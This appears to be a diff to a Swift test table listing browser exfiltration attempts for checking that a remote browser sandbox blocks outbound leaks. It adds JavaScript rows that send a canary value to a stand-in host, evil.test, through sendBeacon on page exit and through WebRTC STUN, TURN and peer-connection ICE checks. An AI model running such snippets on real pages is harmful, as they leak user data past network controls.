@@ -1,6 +1,7 @@
 /// What a hostile page, or a person with it, tries in the remote browser.
 enum BrowserTable {
-  static let all: [BrowserAttempt] = downloads + addresses + clipboard + uploads + outputs + keys + devices
+  static let all: [BrowserAttempt] =
+    downloads + addresses + clipboard + uploads + calls + outputs + keys + devices
 
   private typealias Row = BrowserAttempt
 
@@ -90,6 +91,10 @@ enum BrowserTable {
       "XMLHttpRequest",
       "const x = new XMLHttpRequest(); x.open('POST', 'http://evil.test/'); x.send('CANARY')"),
     request("sendBeacon", "navigator.sendBeacon('http://evil.test/', 'CANARY')"),
+    request(
+      "sendBeacon as the page is left",
+      "addEventListener('pagehide', () => navigator.sendBeacon('http://evil.test/', 'CANARY')); location.href = '/page?2'"
+    ),
     request("WebSocket", "new WebSocket('ws://CANARY.evil.test/')"),
     request("EventSource", "new EventSource('http://evil.test/CANARY')"),
     request(
@@ -127,6 +132,38 @@ enum BrowserTable {
 
   private static func head(_ tag: String, _ fields: String) -> String {
     "document.head.append(Object.assign(document.createElement('\(tag)'), {\(fields)}))"
+  }
+
+  // MARK: Calls between browsers
+
+  private static let calls: [BrowserAttempt] = [
+    outside("WebRTC, a STUN server", gathering("stun:CANARY.evil.test:3478"), .network),
+    outside("WebRTC, a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp"), .network),
+    outside("WebRTC, a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), .network),
+    outside("WebRTC, another browser by UDP", calling("udp 2122260223 198.51.100.7 3478 typ host"), .network),
+    outside(
+      "WebRTC, another browser by TCP",
+      calling("tcp 1518280447 198.51.100.7 19555 typ host tcptype passive"), .network),
+  ]
+
+  /// Asks a server for the addresses at which this browser could be called.
+  private static func gathering(_ server: String) -> String {
+    """
+    const one = window.one = new RTCPeerConnection({iceServers: [{urls: '\(server)', username: 'x', credential: 'x'}]});
+    one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer())
+    """
+  }
+
+  /// Calls an address: each check of the way there has the other side's name in it in clear (RFC 8445 §7.2.2).
+  private static func calling(_ candidate: String) -> String {
+    """
+    const one = window.one = new RTCPeerConnection(), other = window.other = new RTCPeerConnection();
+    one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer());
+    await other.setRemoteDescription(one.localDescription); const answer = await other.createAnswer();
+    const sdp = answer.sdp.replace(/ice-ufrag:.*/, 'ice-ufrag:CANARY');
+    await one.setRemoteDescription({type: 'answer', sdp});
+    await one.addIceCandidate({sdpMid: '0', candidate: 'candidate:1 1 \(candidate)'})
+    """
   }
 
   // MARK: A notebook's output
